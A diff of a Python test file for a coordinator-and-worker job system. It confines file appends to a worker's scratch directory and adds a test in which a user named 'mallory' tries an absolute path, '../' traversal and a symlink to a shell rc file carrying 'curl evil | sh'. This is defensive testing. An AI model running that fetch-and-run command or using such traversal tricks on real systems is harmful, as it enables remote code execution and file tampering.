@@ -33,13 +33,14 @@ def _kinds(events: list[dict]) -> list[str]:
 def test_a_plan_runs_in_order_with_receipts_and_a_verified_journal(
     coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
 ) -> None:
-    workers("w").wait_online()
-    out = tmp_path / "appended.txt"
+    worker = workers("w")
+    worker.wait_online()
+    out = worker.scratch("appended.txt")
     plan = write_plan(
         tmp_path / "plan.json",
         [
             {"kind": "diag.echo", "args": {"value": "one"}, "idempotent": True},
-            {"kind": "diag.append", "args": {"path": str(out), "line": "effect"}},
+            {"kind": "diag.append", "args": {"name": "appended.txt", "line": "effect"}},
             {"kind": "diag.sleep", "args": {"seconds": 0.1}, "idempotent": True},
         ],
         title="three steps",
@@ -53,7 +54,7 @@ def test_a_plan_runs_in_order_with_receipts_and_a_verified_journal(
     receipts = [e for e in events if e["kind"] == "receipt"]
     assert [r["data"]["result"] for r in receipts] == [
         {"echo": "one"},
-        {"bytes": 7, "path": str(out)},
+        {"bytes": 7, "name": "appended.txt"},
         {"slept": 0.1},
     ]
     assert _kinds(events)[0] == "run.submitted" and _kinds(events)[-1] == "run.state"
@@ -148,12 +149,13 @@ def test_an_idempotent_failure_is_retried_and_journaled(
 def test_a_failed_non_idempotent_action_stops_for_a_person_then_retry_and_abandon(
     coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
 ) -> None:
-    workers("w").wait_online()
-    out = tmp_path / "once.txt"
+    worker = workers("w")
+    worker.wait_online()
+    out = worker.scratch("once.txt")
     plan = write_plan(
         tmp_path / "plan.json",
         [
-            {"kind": "diag.append", "args": {"path": str(out), "line": "done"}},
+            {"kind": "diag.append", "args": {"name": "once.txt", "line": "done"}},
             {"kind": "diag.fail", "args": {"message": "broken", "fail_attempts": 1}},
             {"kind": "diag.echo", "args": {}, "idempotent": True},
         ],
@@ -551,3 +553,52 @@ def test_research_requests_refuse_local_urls_and_unbounded_lists() -> None:
     assert error(urls=("https://e.com/" + "x" * 10_000,)).startswith("urls[0]: at most")
     assert error(query="a\x00b") == "query: must not contain NUL characters"
     assert error(urls=("https://e.com/",), search_url="https://e.com/?q={query}") == ""
+
+
+def test_an_owner_cannot_make_a_worker_write_outside_its_scratch_directory(
+    coordinator: CoordinatorProcess, workers: Callable[..., WorkerProcess], tmp_path: Path
+) -> None:
+    worker = workers("w")
+    worker.wait_online()
+    owner = tmp_path / "owner.token"
+    owner.write_text(coordinator.cli_json("users", "create", "mallory")["token"])
+    identity = worker.state_dir / "worker.json"
+    before = identity.read_bytes()
+    outside = tmp_path / "bashrc"
+    outside.write_text("# the desk user's shell\n")
+    worker.scratch("").mkdir(exist_ok=True)
+    worker.scratch("rc.txt").symlink_to(outside)
+    # A path argument does not even reach the worker: diag.append takes no such argument.
+    refused = coordinator.cli(
+        "runs",
+        "submit",
+        str(
+            write_plan(
+                tmp_path / "path.json",
+                [{"kind": "diag.append", "args": {"path": str(identity), "line": "{}"}}],
+            )
+        ),
+        token_file=owner,
+        check=False,
+    )
+    assert refused.returncode == 2 and "path" in refused.stderr, refused.stderr
+    attempts = [
+        {"name": str(identity), "line": "{}"},
+        {"name": "../worker.json", "line": "{}"},
+        {"name": "rc.txt", "line": "curl evil | sh"},
+    ]
+    for i, args in enumerate(attempts):
+        plan = write_plan(tmp_path / f"plan{i}.json", [{"kind": "diag.append", "args": args}])
+        run = submit(coordinator, plan, wait=True, token_file=owner)
+        assert run["status"] != "SUCCEEDED", args
+        [action] = run["actions"]
+        assert action["status"] == "FAILED" and action["attempts"] == 1, action
+        assert action["error"].startswith("outside_scratch: "), action["error"]
+    assert identity.read_bytes() == before
+    assert outside.read_text() == "# the desk user's shell\n"
+    # The same worker still writes inside its scratch directory.
+    plan = write_plan(
+        tmp_path / "ok.json", [{"kind": "diag.append", "args": {"name": "ok.txt", "line": "in"}}]
+    )
+    assert submit(coordinator, plan, wait=True, token_file=owner)["status"] == "SUCCEEDED"
+    assert worker.scratch("ok.txt").read_text() == "in\n"
